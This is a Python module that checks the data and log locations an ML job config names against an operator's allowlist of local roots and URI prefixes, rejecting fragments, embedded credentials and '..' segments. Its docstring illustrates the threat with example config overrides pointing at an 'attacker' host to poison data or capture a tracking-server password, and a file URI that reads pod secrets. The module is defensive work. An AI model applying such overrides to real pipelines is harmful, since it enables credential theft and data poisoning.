"""Which data and log locations a job may read or write: an operator's allowlist.

A job's config can be overridden by whoever submits it (``--set``, the console, an orchestrator),
so a location in it is untrusted input: ``data.path=https://attacker/x.csv`` poisons the holdout,
``mlflow.tracking_uri=http://attacker/`` collects the writer's password, ``file:///var/run/...``
reads the pod's secrets. Every location is checked here before anything reads it:

- local paths (plain, ``file://``, ``sqlite:///``) must resolve, symlinks followed, under a local
  root: the working directory, the project's ``data/`` directory (next to this package, in the
  image and in a Ray job's working_dir), the temporary directory while no allowlist is set, and
  the local directories the allowlist names;
- any other URI (``http(s)://``, ``s3://``, ``postgresql://``...) must start with a listed prefix,
  on a path boundary; loopback HTTP is allowed only while no allowlist is set (a laptop);
- URIs carry no fragment (``#.csv`` suffix tricks), user info or ``..`` segments.

The operator sets the allowlist in the environment, never in the job config (which the
submitter controls): ``RAYLANE_ALLOWED_LOCATIONS`` is a comma- or whitespace-separated list of
prefixes (``s3://bucket/data/,https://data.example.com/,/mnt/data``). Locations the operator set
in the environment the jobs read (``MLFLOW_TRACKING_URI``, ``RAYLANE_PREDICTION_LOG``,
``RAYLANE_NEW_DATA_URI``, ``RAYLANE_LABELS_URI``) are trusted as prefixes too.
"""

from __future__ import annotations

import os
import re
import tempfile
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote, urlsplit

ENV_ALLOWED = "RAYLANE_ALLOWED_LOCATIONS"
# Locations the operator sets in the jobs' environment (ConfigMaps, the pod spec): trusted.
TRUSTED_ENV = ("MLFLOW_TRACKING_URI", "RAYLANE_PREDICTION_LOG", "RAYLANE_NEW_DATA_URI",
               "RAYLANE_LABELS_URI")
LOOPBACK_HOSTS = ("127.0.0.1", "localhost", "[::1]")
# Registry references, resolved by MLflow against the tracking server (itself checked).
REGISTRY_SCHEMES = ("models", "runs")
PROJECT_DATA = Path(__file__).resolve().parents[1] / "data"
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")


class LocationError(ValueError):
    """A location outside the allowlist; the message names the field and what is allowed."""


@dataclass(frozen=True)
class LocationPolicy:
    """Local roots a path must lie under, URI prefixes a remote location must start with."""

    local_roots: tuple[Path, ...]
    prefixes: tuple[str, ...]
    allow_loopback: bool

    def describe(self) -> str:
        allowed = [str(r) for r in self.local_roots] + list(self.prefixes)
        if self.allow_loopback:
            allowed.append("http(s)://127.0.0.1|localhost")
        return ", ".join(allowed)


def policy_from_env(environ: Mapping[str, str] | None = None) -> LocationPolicy:
    """The operator's policy: ``RAYLANE_ALLOWED_LOCATIONS`` and the trusted environment."""
    environ = os.environ if environ is None else environ
    listed = [p for p in re.split(r"[,\s]+", environ.get(ENV_ALLOWED, "")) if p]
    roots = [Path.cwd().resolve(), PROJECT_DATA]
    prefixes: list[str] = []
    for entry in listed + [environ[v] for v in TRUSTED_ENV if environ.get(v)]:
        local = _local_path(entry)
        if local is not None:
            roots.append(local)
        else:
            prefixes.append(_normalize_remote(entry))
    if not listed:
        roots.append(Path(tempfile.gettempdir()).resolve())
    return LocationPolicy(tuple(dict.fromkeys(roots)), tuple(dict.fromkeys(prefixes)),
                          allow_loopback=not listed)


def check_location(field: str, location: str, policy: LocationPolicy | None = None) -> str:
    """``location`` if the policy allows it, else LocationError naming ``field``."""
    policy = policy or policy_from_env()
    if not isinstance(location, str) or not location.strip():
        raise LocationError(f"{field}: expected a path or URI, got {location!r}")
    scheme = _scheme(location)
    if scheme in REGISTRY_SCHEMES:
        return location
    if scheme:
        _check_uri_shape(field, location)
    local = _local_path(location)
    if local is not None:
        if any(local == root or root in local.parents for root in policy.local_roots):
            return location
        raise LocationError(
            f"{field}: {location!r} is outside the allowed locations ({policy.describe()}); "
            f"an operator adds directories or URI prefixes to ${ENV_ALLOWED}")
    normalized = _normalize_remote(location)
    if any(_under(normalized, prefix) for prefix in policy.prefixes):
        return location
    if policy.allow_loopback and scheme in ("http", "https") and \
            (urlsplit(location).hostname or "") in {h.strip("[]") for h in LOOPBACK_HOSTS}:
        return location
    raise LocationError(
        f"{field}: {location!r} is not under an allowed location ({policy.describe()}); an "
        f"operator lists URI prefixes such as s3://bucket/data/ in ${ENV_ALLOWED}")


def _scheme(location: str) -> str | None:
    match = _SCHEME.match(location)
    # A Windows drive letter ("C:") is a path, not a scheme.
    if not match or len(match.group(1)) == 1:
        return None
    return match.group(1).lower()


def _check_uri_shape(field: str, location: str) -> None:
    parts = urlsplit(location)
    if parts.fragment or "#" in location:
        raise LocationError(f"{field}: {location!r}: a URI with a fragment ('#') is not accepted")
    if "@" in parts.netloc:
        raise LocationError(f"{field}: {location!r}: credentials in a URI are not accepted; the "
                            "jobs take them from the environment")
    if ".." in unquote(parts.path).split("/"):
        raise LocationError(f"{field}: {location!r}: '..' segments are not accepted")


def _local_path(location: str) -> Path | None:
    """The resolved local path a plain path, ``file:`` or ``sqlite:`` URI names; else None."""
    scheme = _scheme(location)
    if scheme is None:
        path = location
    elif scheme == "file":
        parts = urlsplit(location)
        if parts.netloc not in ("", "localhost") or parts.query or parts.fragment:
            return Path("/nonexistent-host") / parts.netloc  # never under a root
        path = unquote(parts.path)
    elif scheme == "sqlite":
        # sqlite:///relative.db, sqlite:////absolute.db (SQLAlchemy's form)
        rest = location[len("sqlite:"):].split("?", 1)[0]
        path = rest[3:] if rest.startswith("///") else rest.lstrip("/")
        if not path or path == ":memory:":
            return Path.cwd().resolve()
    else:
        return None
    return Path(os.path.expanduser(path)).resolve()


def _normalize_remote(uri: str) -> str:
    """Scheme and host lower-cased (they are case-insensitive), the rest as written."""
    parts = urlsplit(uri)
    rest = uri[len(parts.scheme) + 3 + len(parts.netloc):] if "://" in uri else \
        uri[len(parts.scheme) + 1:]
    sep = "://" if "://" in uri else ":"
    return f"{parts.scheme.lower()}{sep}{parts.netloc.lower()}{rest}"


def _under(location: str, prefix: str) -> bool:
    """``location`` starts with ``prefix`` and the match ends on a path boundary."""
    if prefix.endswith("/"):
        return location.startswith(prefix)
    return location == prefix or location.startswith(prefix + "/")
